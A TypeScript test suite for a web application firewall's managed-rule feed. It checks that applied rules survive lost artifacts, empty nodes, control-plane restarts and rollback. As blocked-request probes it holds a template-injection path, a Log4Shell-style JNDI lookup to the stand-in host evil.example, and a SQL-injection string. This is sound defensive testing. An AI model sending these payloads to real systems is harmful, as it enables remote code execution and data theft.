// What a version was applied with is what it is brought back with: rules that the managed feed delivered protect as
// well after the artifact is lost, a node comes back empty, the control plane restarts, or the feed has moved on
// meanwhile.
import { readdir, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import type { Database } from '../db/client.js';
import { createOutbound } from '../outbound/outbound.js';
import { startTestApp, type Reply } from '../testing/app.js';
import { onBothDatabases } from '../testing/databases.js';
import { nodeToken, startNode, startUpstream, type TestNode } from '../testing/data-plane.js';
import { freePort } from '../testing/free-port.js';
import { feedPatch } from '../testing/builders/feed.js';
import { writeRuleSet } from '../testing/rule-set.js';
import { makeDataDirectory, makeDirectory } from '../testing/temporary.js';
import { connectDataPlane } from '../nodes/link.js';

const feed = (version: number, patches: readonly unknown[]): string =>
  JSON.stringify({
    format: 'gatehouse-managed-feed/1',
    name: 'Test feed',
    version,
    issued: '2026-02-28T00:00:00Z',
    networks: [],
    catalog: [1007001],
    patches,
  });

/** A control plane on this database and data directory; a second one is a restart of the first. */
async function start(database: Database, env: Parameters<typeof connectDataPlane>[0]['env']) {
  const link = await connectDataPlane({ env, database, now: Date.now });
  const outbound = createOutbound({ allow: ['127.0.0.1'] });
  const at = await startTestApp(database, { outbound, applySettings: link.applySettings, expectedOf: link.expectedOf });
  await link.start(at.parts);
  const { token } = await at.user('admin', `admin-${performance.now()}@example.org`);
  const call = (method: string, path: string, body?: object): Promise<Reply> =>
    at.call(method, path, { token, ...(body === undefined ? {} : { body }) });
  return {
    call,
    reconcile: () => link.road.reconcile(at.parts.audit),
    async stop() {
      await at.close();
      await link.close();
    },
  };
}

const ask = async (node: TestNode, path: string): Promise<number> =>
  (await fetch(`http://127.0.0.1:${node.http}${path}`, { headers: { connection: 'close' } })).status;
const attack = '/example/render?template={{7*7}}';
const catalogued = '/?x=${jndi:ldap://evil.example/a}';

async function suite(t: Test, database: Database): Promise<void> {
  let served = feed(3, [feedPatch]);
  const publisher = createServer((_, reply) => reply.end(served));
  await new Promise<void>((resolve) => publisher.listen(0, '127.0.0.1', resolve));
  t.teardown(() => publisher.close());
  const url = `http://127.0.0.1:${(publisher.address() as AddressInfo).port}/feed`;
  const upstream = await startUpstream(t);
  const adminPort = await freePort();
  const dataDirectory = await makeDataDirectory(t, 'managed');
  const env = {
    dataAdminToken: nodeToken,
    dataAdminUrls: [`http://127.0.0.1:${adminPort}`],
    dataDirectory,
    crsDirectory: await writeRuleSet(t),
    upstreams: { customer: upstream, payment: upstream },
    settingsEncryptionSecret: 'b'.repeat(40),
  };
  const artifacts = join(dataDirectory, 'artifacts');
  const drop = async (): Promise<void> => {
    for (const name of await readdir(artifacts)) await rm(join(artifacts, name));
  };
  let node = await startNode(t, { upstream, adminPort });
  /** The node comes back with nothing on its disk. */
  const emptyNode = async (): Promise<void> => {
    await node.stop();
    node = await startNode(t, { upstream, adminPort });
    t.equal(await ask(node, attack), 503, 'it has no rules yet');
  };
  let plane = await start(database, env);
  const isHeld = async (how: string): Promise<void> => {
    t.same(
      [await ask(node, attack), await ask(node, catalogued), await ask(node, '/example/render?template=plain')],
      [403, 403, 200],
      how,
    );
    t.match(
      (await plane.call('GET', '/api/managed-feed')).body,
      { rules_applied: true },
      `${how}: and the status is true`,
    );
  };

  t.equal((await plane.call('PATCH', '/api/settings', { mrf_enabled: true, mrf_url: url })).status, 200);
  t.match((await plane.call('POST', '/api/managed-feed/refresh')).body, { copy: { version: 3 }, rules_applied: false });
  t.match(await plane.call('POST', '/api/apply'), { status: 200 });
  await isHeld('applied');

  await emptyNode();
  await drop();
  t.match(await plane.reconcile(), /now serves version 2/);
  await isHeld('the artifact is gone: it is compiled again with the rules that it was applied with');

  await emptyNode();
  for (const name of await readdir(artifacts)) await writeFile(join(artifacts, name), 'damaged');
  t.match(await plane.reconcile(), /now serves version 2/);
  await isHeld('the artifact is damaged: the node refuses it, and it is compiled again');

  await plane.stop();
  await emptyNode();
  await drop();
  plane = await start(database, env);
  await plane.reconcile();
  await isHeld('a control plane that has just started knows them too');

  served = feed(4, []);
  t.match(
    (await plane.call('POST', '/api/managed-feed/refresh')).body,
    { copy: { version: 4 }, rules_applied: false },
    'the feed goes on',
  );
  await emptyNode();
  await drop();
  await plane.reconcile();
  t.equal(await ask(node, attack), 403, 'what was applied is what comes back; the feed of today waits for an apply');
  t.match(await plane.call('POST', '/api/apply'), { status: 200 });
  t.same([await ask(node, attack), await ask(node, catalogued)], [200, 403], 'and goes with it');

  const back = await plane.call('POST', '/api/config/rollback', { version: 1 });
  t.equal(back.status, 200, back.text);
  t.equal(await ask(node, catalogued), 200, 'version 1 has the feed switched off');
  await plane.stop();
}

t.test('delivered rules come back', (t) => onBothDatabases(t, 'delivered rules', suite));

t.test('before the first apply: a node that cannot serve what it had gets the settings of the beginning', (t) =>
  onBothDatabases(t, 'nothing applied', async (t, database) => {
    const upstream = await startUpstream(t);
    const [adminPort, dataDir] = [await freePort(), await makeDirectory(t, 'never-applied')];
    await writeFile(join(dataDir, 'current.json'), '{"of": "another release"}');
    const again = { upstream, adminPort, dataDir, resume: true, controlUrl: 'http://127.0.0.1:1' };
    const node = await startNode(t, again);
    t.equal(await ask(node, '/'), 503, 'what it served is not known');
    const env = {
      dataAdminToken: nodeToken,
      dataAdminUrls: [node.url],
      dataDirectory: await makeDataDirectory(t, 'control'),
      crsDirectory: await writeRuleSet(t),
      upstreams: { customer: upstream, payment: upstream },
      settingsEncryptionSecret: 'b'.repeat(40),
    };
    const plane = await start(database, env);
    t.teardown(() => plane.stop());
    // what is saved and not applied is not put in force by the way
    t.equal((await plane.call('PATCH', '/api/settings', { mode: 'DetectionOnly' })).status, 200);
    await plane.reconcile();
    const injection = `/?q=${encodeURIComponent("1' OR '1'='1' -- ")}`;
    t.same([await ask(node, '/'), await ask(node, injection)], [200, 403]);
    t.match(await plane.reconcile(), /^1 of 1 nodes answer$/, 'and is left alone then');
    t.match((await plane.call('GET', '/api/nodes')).body, { active_version: 1 });
  }),
);
